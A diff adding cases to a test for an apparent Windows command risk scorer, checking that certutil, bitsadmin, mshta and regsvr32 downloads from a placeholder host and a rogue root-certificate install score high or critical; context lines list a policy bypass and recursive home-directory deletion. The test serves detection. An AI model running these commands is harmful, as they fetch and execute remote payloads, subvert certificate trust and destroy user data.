@@ -112,6 +112,11 @@ describe('the Windows machine', () => {
     ['powershell -ExecutionPolicy Bypass -File C:\\Users\\dev\\Downloads\\x.ps1', 'high'],
     ['Get-ChildItem -Path C:\\Users\\dev -Recurse | Remove-Item -Force', 'critical'],
     ['Remove-Item -Path $HOME -Recurse -Force', 'critical'],
+    ['certutil -urlcache -split -f http://x.example/a.exe a.exe', 'high'],
+    ['bitsadmin /transfer job http://x.example/a.exe C:\\a.exe', 'high'],
+    ['mshta http://x.example/payload.hta', 'critical'],
+    ['regsvr32 /s /n /u /i:http://x.example/file.sct scrobj.dll', 'critical'],
+    ['certutil -addstore -f root evil.cer', 'high'],
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
 
   it('judges a cmdlet without a rule by its verb', () => {
